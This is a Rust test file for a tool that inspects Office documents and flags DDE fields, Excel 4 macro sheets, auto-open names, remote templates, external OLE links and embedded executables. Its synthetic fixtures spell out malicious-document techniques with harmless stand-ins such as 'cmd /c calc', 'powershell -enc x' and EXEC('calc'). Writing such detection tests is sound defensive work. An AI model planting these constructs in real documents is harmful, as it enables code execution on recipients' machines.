//! Tests of Office Open XML: relations, macros, templates, mutations.

use expect_test::{Expect, expect};
use testkit::mutation::mutate;
use vocab::Limits;

use super::binary::tests::{record, wide};
use crate::shown::{Opening, opened};

/// A package of stored parts.
pub(crate) fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut local, mut central) = (Vec::new(), Vec::new());
    for (name, content) in parts {
        let size = u32::try_from(content.len()).unwrap().to_le_bytes();
        let name_size = u16::try_from(name.len()).unwrap().to_le_bytes();
        let offset = u32::try_from(local.len()).unwrap().to_le_bytes();
        let crc = crc32fast::hash(content).to_le_bytes();
        let common =
            [&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0][..], &crc, &size, &size, &name_size].concat();
        local.extend([b"PK\x03\x04", &common[..], &[0; 2], name.as_bytes(), content].concat());
        let rest = [&[0; 12][..], &offset, name.as_bytes()].concat();
        central.extend([b"PK\x01\x02\x14\0", &common[..], &rest].concat());
    }
    let (count, start) = (u16::try_from(parts.len()).unwrap(), u32::try_from(local.len()).unwrap());
    let size = u32::try_from(central.len()).unwrap().to_le_bytes();
    let count = count.to_le_bytes();
    let end = [b"PK\x05\x06\0\0\0\0", &count[..], &count, &size, &start.to_le_bytes(), &[0; 2]];
    local.extend(central);
    local.extend(end.concat());
    local
}

const TYPES: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");

fn check(name: &str, parts: &[(&str, &str)], expected: &Expect) {
    expected.assert_eq(&open(name, parts));
}

fn open(name: &str, parts: &[(&str, &str)]) -> String {
    let parts: Vec<(&str, &[u8])> = [TYPES]
        .into_iter()
        .chain(parts.iter().map(|(name, text)| (*name, text.as_bytes())))
        .collect();
    opened(name, &package(&parts))
}

/// Relationships: type, target, and whether the mode says that it is outside.
fn relations(list: &[(&str, &str, bool)]) -> String {
    let mut xml = "<Relationships>".to_owned();
    for (number, (kind, target, external)) in list.iter().enumerate() {
        let mode = if *external { " TargetMode='External'" } else { "" };
        xml += &format!(
            "<Relationship Id='rId{number}' Type='http://x/{kind}' Target='{target}'{mode}/>"
        );
    }
    xml + "</Relationships>"
}

#[test]
fn text_fields_and_properties_of_a_document() {
    check(
        "x.docx",
        &[
            (
                "word/document.xml",
                "<w:document><w:p><w:r><w:t>shown</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r>\
                 <w:r><w:rPr><w:vanish w:val='0'/></w:rPr><w:t> too</w:t></w:r></w:p>\
                 <w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>\
                 <w:r><w:instrText>AUTO cmd &quot;/c calc&quot;</w:instrText></w:r>\
                 <w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>result</w:t></w:r>\
                 <w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>\
                 <w:fldSimple w:instr='INCLUDEPICTURE \"http://p.example/a.png\"'><w:r><w:t>x</w:t></w:r></w:fldSimple>\
                 <wp:docPr descr='http://alt.example/'/></w:document>",
            ),
            (
                "docProps/core.xml",
                "<cp:coreProperties><dc:title>T</dc:title><dc:creator>花子</dc:creator><cp:lastModifiedBy>L</cp:lastModifiedBy>\
                 <dcterms:created>2016-07-04T10:00:00Z</dcterms:created><cp:keywords>http://k.example/</cp:keywords></cp:coreProperties>",
            ),
            (
                "docProps/app.xml",
                "<Properties><Application>A</Application><Company>C</Company><Template>Normal.dotm</Template></Properties>",
            ),
            (
                "docProps/custom.xml",
                "<Properties><property name='c'><vt:lpwstr>powershell -enc x</vt:lpwstr></property></Properties>",
            ),
            (
                "word/settings.xml",
                "<w:settings><w:docVar w:name='v' w:val='payload'/></w:settings>",
            ),
        ],
        &expect![[r#"
            office-ooxml-docx
            title: T
            author: 花子
            last-author: L
            created: 2016-07-04T10:00:00Z
            application: A
            company: C
            template: Normal.dotm
            lock None NotNeeded
            * dde field:DDEAUTO
            * auto-exec field:DDEAUTO
            * runs-command field:DDEAUTO
            * external-link field:INCLUDEPICTURE
            * hidden text
            Hidden property:title: T
            Hidden property:creator: 花子
            Hidden property:lastModifiedBy: L
            Hidden property:keywords: http://k.example/
            Hidden property:Company: C
            Hidden property:c: powershell -enc x
            Hidden property:descr: http://alt.example/
            Code field:DDEAUTO: DDEAUTO cmd /c calc
            Link field:INCLUDEPICTURE: http://p.example/a.png
            Hidden property:docVar: payload
            Shown text: shown too\nresult\nx
            Hidden text: secret
        "#]],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "the parts of a document and what comes of them")]
fn links_to_outside() {
    check(
        "x.docx",
        &[
            (
                "word/document.xml",
                "<w:document><o:OLEObject Type='Link' ProgID='htmlfile' r:id='rId1' UpdateMode='Always'/></w:document>",
            ),
            (
                "word/_rels/document.xml.rels",
                &relations(&[
                    ("hyperlink", "https://h.example/", true),
                    ("oleObject", "https://o.example/x.html!", true),
                    ("image", "http://i.example/a.png", true),
                    ("frame", "\\\\f.example\\s\\x.htm", true),
                    ("oleObject", "mhtml:http://m.example/x!x-usc:http://m.example/x", true),
                    ("image", "media/a.png", false),
                ]),
            ),
            (
                "word/_rels/settings.xml.rels",
                &relations(&[("attachedTemplate", "http://t.example/a.dotm", false)]),
            ),
            ("word/media/a.png", "\u{89}PNG"),
        ],
        &expect![[r#"
            office-ooxml-docx
            > member:4 word/media/a.png 5 bytes \u{89}PNG size=5 packed=5 method=stored
            template: http://t.example/a.dotm
            links:
            -
                kind: oleObject
                target: https://o.example/x.html!
            -
                kind: image
                target: http://i.example/a.png
            -
                kind: frame
                target: \\\\f.example\\s\\x.htm
            -
                kind: oleObject
                target: mhtml:http://m.example/x!x-usc:http://m.example/x
            -
                kind: attachedTemplate
                target: http://t.example/a.dotm
            objects:
            -
                kind: link
                class: htmlfile
                target: https://o.example/x.html!
                update: true
            lock None NotNeeded
            * external-link relation:word/document.xml:rId1
            * exploit-sign relation:word/document.xml:rId1
            * runs-command relation:word/document.xml:rId4
            * remote-template relation:word/settings.xml:rId0
            Link relation:word/document.xml:rId0: https://h.example/
            Link relation:word/document.xml:rId1: https://o.example/x.html!
            Link relation:word/document.xml:rId2: http://i.example/a.png
            Link relation:word/document.xml:rId3: \\\\f.example\\s\\x.htm
            Link relation:word/document.xml:rId4: mhtml:http://m.example/x!x-usc:http://m.example/x
            Link relation:word/settings.xml:rId0: http://t.example/a.dotm
        "#]],
    );
    let found = open(
        "x.docx",
        &[
            ("word/document.xml", "<a/>"),
            (
                "word/_rels/settings.xml.rels",
                &relations(&[("attachedTemplate", "file:///C:/Users/a/Normal.dotm", true)]),
            ),
        ],
    );
    assert!(!found.contains("remote-template"), "{found}");
    assert!(found.contains("template: file:///C:/Users/a/Normal.dotm"), "{found}");
}

#[test]
fn files_within_are_handed_out() {
    check(
        "x.docx",
        &[
            (
                "word/document.xml",
                "<w:document><o:OLEObject Type='Embed' ProgID='Equation.3' r:id='rId0'/></w:document>",
            ),
            (
                "word/_rels/document.xml.rels",
                &relations(&[
                    ("oleObject", "embeddings/oleObject1.bin", false),
                    ("aFChunk", "/word/chunk.mht", false),
                    ("package", "embeddings/a.docx", false),
                    ("control", "activeX/activeX1.xml", false),
                ]),
            ),
            ("word/embeddings/oleObject1.bin", "native"),
            ("word/embeddings/a.docx", "PK\u{3}\u{4}"),
            ("word/chunk.mht", "MIME-Version: 1.0"),
            (
                "word/activeX/activeX1.xml",
                "<ax:ocx ax:classid='{D27CDB6E-AE6D-11CF-96B8-444553540000}' r:id='rId1'/>",
            ),
            ("word/activeX/activeX1.bin", "data"),
            ("payload.exe", "MZ"),
        ],
        &expect![[r#"
            office-ooxml-docx
            > member:3 word/embeddings/oleObject1.bin 6 bytes native size=6 packed=6 method=stored
            > member:4 word/embeddings/a.docx 4 bytes PK\u{3}\u{4} size=4 packed=4 method=stored
            > member:5 word/chunk.mht 17 bytes MIME-Version: 1.0 size=17 packed=17 method=stored
            > member:7 word/activeX/activeX1.bin 4 bytes data size=4 packed=4 method=stored
            > member:8 payload.exe 2 bytes MZ size=2 packed=2 method=stored
            objects:
            -
                kind: control
                class: {D27CDB6E-AE6D-11CF-96B8-444553540000}
            -
                kind: embedded
                class: Equation.3
                target: embeddings/oleObject1.bin
            lock None NotNeeded
            * script object:{D27CDB6E-AE6D-11CF-96B8-444553540000}
            * equation-editor object:Equation.3
            * embedded-file member:3
        "#]],
    );
}

#[test]
#[expect(clippy::too_many_lines, reason = "the parts of a document and what comes of them")]
fn macro_sheets_run_by_name() {
    check(
        "x.xlsm",
        &[
            (
                "xl/workbook.xml",
                "<workbook><sheets><sheet name='Seen' r:id='rId0'/><sheet name='M' state='veryHidden' r:id='rId1'/></sheets>\
                 <definedNames><definedName name='_xlnm.Auto_Open' hidden='1'>M!$A$1</definedName>\
                 <definedName name='_xlnm.Print_Area'>Seen!$A$1</definedName></definedNames></workbook>",
            ),
            (
                "xl/_rels/workbook.xml.rels",
                &relations(&[
                    ("worksheet", "worksheets/sheet1.xml", false),
                    ("xlMacrosheet", "macrosheets/sheet1.xml", false),
                    ("externalLink", "externalLinks/externalLink1.xml", false),
                ]),
            ),
            (
                "xl/macrosheets/sheet1.xml",
                "<xm:macrosheet><c r='A1'><f>EXEC(\"calc\")</f></c><c r='A2'><f>HALT()</f></c></xm:macrosheet>",
            ),
            (
                "xl/worksheets/sheet1.xml",
                "<worksheet><c r='A1' t='inlineStr'><is><t>inline</t></is></c><c r='B1'><f>SUM(A1)</f><v>5</v></c>\
                 <c r='C1' t='str'><f>WEBSERVICE(\"http://w.example/\")</f><v>text</v></c></worksheet>",
            ),
            ("xl/sharedStrings.xml", "<sst><si><r><t>sha</t></r><r><t>red</t></r></si></sst>"),
            (
                "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
            ),
            (
                "xl/connections.xml",
                "<connections><connection><webPr url='http://c.example/'/></connection></connections>",
            ),
            ("customUI/customUI.xml", "<customUI onLoad='Start'/>"),
        ],
        &expect![[r#"
            office-ooxml-xlsm
            sheets:
            -
                name: Seen
                kind: worksheet
            -
                name: M
                kind: macro-sheet
                visibility: very-hidden
            names:
            -
                name: _xlnm.Auto_Open
                value: M!$A$1
            formulas:
            -
                name: M!A1
                code: EXEC(\"calc\")
            -
                name: Seen!C1
                code: WEBSERVICE(\"http://w.example/\")
            lock None NotNeeded
            * auto-exec property:_xlnm.Auto_Open
            * hidden sheet:M
            * runs-command cell:M!A1
            * excel4-macro sheet:M
            * external-link cell:Seen!C1
            * dde link:xl/externallinks/externallink1.xml
            Code cell:M!A1: EXEC(\"calc\")
            Code sheet:M: A1 =EXEC(\"calc\")\nA2 =HALT()\n
            Link cell:Seen!C1: http://w.example/
            Code cell:Seen!C1: WEBSERVICE(\"http://w.example/\")
            Code link:xl/externallinks/externallink1.xml: cmd|/c calc
            Link link:xl/connections.xml: http://c.example/
            Hidden property:onLoad: Start
            Shown text: inline\ntext\nshared\n
        "#]],
    );
}

#[test]
fn binary_workbook() {
    let sheet = [&[1, 0, 0, 0, 1, 0, 0, 0][..], &wide("rId0"), &wide("M")].concat();
    let name = [&[0; 9][..], &wide("Auto_Open")].concat();
    let workbook = [record(156, &sheet), record(39, &name)].concat();
    let link = [&[1, 0][..], &wide("cmd"), &wide("/c calc")].concat();
    let formula = [&[0; 12][..], &[0x17, 4, 0, b'c', 0, b'a', 0, b'l', 0, b'c', 0]].concat();
    let links = relations(&[("xlMacrosheet", "macrosheets/sheet1.bin", false)]);
    let parts: [(&str, &[u8]); 5] = [
        TYPES,
        ("xl/workbook.bin", &workbook),
        ("xl/_rels/workbook.bin.rels", links.as_bytes()),
        ("xl/macrosheets/sheet1.bin", &record(9, &formula)),
        ("xl/externalLinks/externalLink1.bin", &record(360, &link)),
    ];
    expect![[r#"
        office-ooxml-xlsb
        sheets:
        -
            name: M
            kind: macro-sheet
            visibility: hidden
        names:
        -
            name: Auto_Open
        lock None NotNeeded
        * auto-exec property:Auto_Open
        * hidden sheet:M
        * excel4-macro sheet:M
        * dde link:xl/externallinks/externallink1.bin
        * runs-command link:xl/externallinks/externallink1.bin
        Code sheet:M: calc
        Code link:xl/externallinks/externallink1.bin: cmd|/c calc
    "#]]
    .assert_eq(&opened("x.xlsb", &package(&parts)));
}

#[test]
fn slides_run_what_their_animations_call() {
    check(
        "x.pptx",
        &[
            (
                "ppt/slides/slide1.xml",
                "<p:sld><a:p><a:r><a:rPr><a:hlinkClick r:id='rId0' action='ppaction://program'/></a:rPr><a:t>click</a:t></a:r></a:p>\
                 <p:oleObj progId='Package' r:id='rId1'/><p:cmd type='verb' cmd='0'/></p:sld>",
            ),
            (
                "ppt/slides/_rels/slide1.xml.rels",
                &relations(&[
                    ("hyperlink", "script:http://s.example/x.sct", true),
                    ("oleObject", "../embeddings/o.bin", false),
                ]),
            ),
        ],
        &expect![[r#"
            office-ooxml-pptx
            objects:
            -
                kind: embedded
                class: Package
                target: ../embeddings/o.bin
            lock None NotNeeded
            * runs-command relation:ppt/slides/slide1.xml:rId0
            * embedded-file object:Package
            * auto-exec object:cmd
            Link relation:ppt/slides/slide1.xml:rId0: script:http://s.example/x.sct
            Shown text: click\n
        "#]],
    );
}

#[test]
fn broken_packages_tell_what_is_left() {
    let bytes = package(&[
        ("word/document.xml", b"<w:document><w:t>one</w:t><!-x><w:t>two</w:t>"),
        ("word/document.xml/../x", b"x"),
    ]);
    // Without its types the package is told by its name alone.
    let found = opened("x.docx", &bytes);
    assert!(found.starts_with("zip"), "{found}");
    let mut bytes = package(&[
        TYPES,
        ("word/document.xml", b"<w:document><w:t>one</w:t><!-x><w:t>two</w:t>"),
        ("word/header1.xml", b"<w:hdr><w:t>three</w:t></w:hdr>"),
    ]);
    let found = opened("x.docx", &bytes);
    assert!(found.contains("! file-broken member:word/document.xml"), "{found}");
    assert!(found.contains("Shown text: onetwothree"), "{found}");
    bytes.truncate(bytes.len() - 100);
    let found = opened("x.docx", &bytes);
    assert!(found.contains("one"), "{found}");
}

#[test]
fn parts_are_counted() {
    let names: Vec<String> = (0..20).map(|number| format!("word/media/{number}.png")).collect();
    let mut parts = vec![TYPES, ("word/document.xml", &b"<a/>"[..])];
    parts.extend(names.iter().map(|name| (name.as_str(), &b"x"[..])));
    let limits = Limits { members: 5, ..Limits::default() };
    let found = Opening { limits, ..Opening::default() }.open("x.docx", &package(&parts));
    assert_eq!(found.matches("> member:").count(), 3, "{found}");
    assert!(found.contains("! limit-members"), "{found}");
}

#[test]
fn mutations_do_not_break_the_reader() {
    let bytes = package(&[
        TYPES,
        ("word/document.xml", b"<w:document><w:fldChar w:fldCharType='begin'/><w:instrText>DDE a b</w:instrText></w:document>"),
        ("word/_rels/document.xml.rels", relations(&[("oleObject", "http://a.example/!", true)]).as_bytes()),
        ("xl/workbook.bin", &record(156, &wide("x"))),
        ("word/embeddings/a.bin", b"x"),
    ]);
    for seed in 0..1_000 {
        let _ = opened("x.docx", &mutate(seed, &bytes, b"<![CDATA[<!DOCTYPE ]]>"));
    }
}

#[test]
fn samples_of_other_projects() {
    let Some(corpus) = testkit::larger_corpus() else { return };
    let read = |name: &str| {
        let path = corpus.join("artifacts").join(name);
        opened(name, &std::fs::read(path).unwrap())
    };
    for (name, lines) in SAMPLES {
        let found = read(name);
        for line in *lines {
            assert!(found.contains(line), "{name}: {line}\n{found}");
        }
    }
    let clean = read("oletools/msodde/harmless-clean.docx");
    assert!(!clean.contains("\n* "), "{clean}");
}

/// What their makers and `oletools` say of them.
const SAMPLES: &[(&str, &[&str])] = &[
    (
        "oletools/msodde/dde-test.docx",
        &["* dde field:DDEAUTO", "cmd.exe /k calc.exe", "author: user"],
    ),
    ("oletools/msodde/dde-test.docm", &["* dde field:DDEAUTO"]),
    (
        "oletools/msodde/dde-test.xlsx",
        &["* dde link:xl/externallinks/externallink1.xml", "cmd|/c calc.exe"],
    ),
    ("oletools/msodde/dde-test.xlsm", &["cmd|/c calc.exe"]),
    ("oletools/msodde/dde-test.xlsb", &["cmd|/c calc.exe"]),
    (
        "oletools/excel4-macros/excel4_sample_macro.xlsm",
        &["* auto-exec", "* excel4-macro sheet:Macro1", "A2 =HALT()"],
    ),
    (
        "oletools/excel4-macros/excel4_sample_macro.xltm",
        &["* auto-exec", "* excel4-macro sheet:Macro1"],
    ),
    (
        "oletools/excel4-macros/excel4_sample_macro.xlsb",
        &["* auto-exec", "* excel4-macro sheet:Macro1", "This is a sample Excel 4 macro"],
    ),
    (
        "oletools/oleobj/embedded-simple-2007.docx",
        &["* embedded-file object:Package", "word/embeddings/oleObject1.bin 8704 bytes"],
    ),
    (
        "oletools/oleobj/embedded-simple-2007.xlsb",
        &["* embedded-file", "xl/embeddings/oleObject1.bin 3072 bytes"],
    ),
    (
        "oletools/oleobj/external_link/sample_with_external_link_to_doc.docx",
        &["* external-link relation:word/document.xml:rId5", "kind: link"],
    ),
    ("oletools/oleobj/external_link/sample_with_external_link_to_doc.xlsb", &["* external-link"]),
    ("oletools/oleobj/external_link/sample_with_external_link_to_doc.pptx", &["* external-link"]),
    ("oletools/oleform/oleform-PR314.docm", &["* macros macro:UserFormTEST1", "mouahaha"]),
    (
        "strelka/test.docx",
        &[
            "author: Ryan.OHoro",
            "company: Target Corporation",
            "word/media/image1.jpeg 21018 bytes",
        ],
    ),
];
